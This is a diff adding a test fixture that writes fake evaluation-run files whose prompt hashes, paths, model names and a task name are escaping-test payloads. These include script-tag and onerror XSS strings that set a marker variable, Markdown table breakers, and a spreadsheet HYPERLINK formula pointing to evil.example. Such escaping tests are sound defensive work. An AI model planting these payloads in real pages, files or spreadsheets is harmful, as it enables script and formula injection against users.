@@ -52,3 +52,45 @@ def write_three(root):
                if t != "adv_rte"}
     write_run(root / "runs" / "partial", partial)
     return root / "runs"
+
+
+# Hostile values for the escaping tests: each would run script, cut the page off, break a Markdown table
+# or start a spreadsheet formula if written unescaped. A script that runs sets window.__pwned or the title.
+HOSTILE_TASK = 't"]<img src=x onerror=window.__pwned=5>|=1+1'
+
+
+def write_hostile(root):
+    """Five runs under ``root/hostile`` whose prompt hashes, prompt paths, model names and one task name are
+    payloads (the adversarial review's N1 and N16 among them); the last has a negative PDR."""
+    runs = root / "hostile"
+    entries = [  # (prompt_sha256, prompt_source, exact model or None, accuracy shift)
+        # ranked 2nd and 3rd: unescaped, the first hash opened a script element that the second closed, and
+        # the prompt path between them ran as code
+        ("<script>`", "x)/;window.__pwned=1;`", None, 0.0),
+        ("`//</script>", "<script>document.title='pwned'</script><img src=x onerror=window.__pwned=2>", None, -0.05),
+        ("<script><!--", '" autofocus onfocus="window.__pwned=3" x="', None, -0.1),
+        ("</script>", "a | b\n| c", '=HYPERLINK("http://evil.example/?x","click")', -0.15),
+        (None, None, "<img src=x onerror=window.__pwned=4>", None),
+    ]
+    for i, (sha, source, model, shift) in enumerate(entries):
+        folder = runs / f"run{i}"
+        if shift is None:  # adversarial above clean: a negative drop rate
+            accs = {t: (0.9 if t.startswith("adv_") else 0.6, se, n) for t, (_, se, n) in STRONG.items()}
+        else:
+            accs = {t: (round(a + shift, 10), se, n) for t, (a, se, n) in STRONG.items()}
+        write_run(folder, accs, prompt=source, model=model or "org/base-model")
+        path = next(folder.glob("results_*.json"))
+        data = json.loads(path.read_text())
+        if source is not None:  # the path in prompt_source only, as prompt_tuned records it
+            data["config"].update(prompt_sha256=sha, prompt_source=source,
+                                  model_args=f"pretrained={model or 'org/base-model'}")
+        if model:
+            data["config"]["pretrained"] = model
+        if i == 0:  # a task of the run's own, named by the file
+            data["results"][HOSTILE_TASK] = {"alias": HOSTILE_TASK, "acc,none": 0.75, "acc_stderr,none": 0.04}
+            data["configs"][HOSTILE_TASK] = {"task": HOSTILE_TASK, "doc_to_choice": ["a", "b"],
+                                             "metadata": {"version": "<b>1</b>"}}
+            data["versions"][HOSTILE_TASK] = "<b>1</b>"
+            data["n-samples"][HOSTILE_TASK] = {"original": 10, "effective": 10}
+        path.write_text(json.dumps(data))
+    return runs
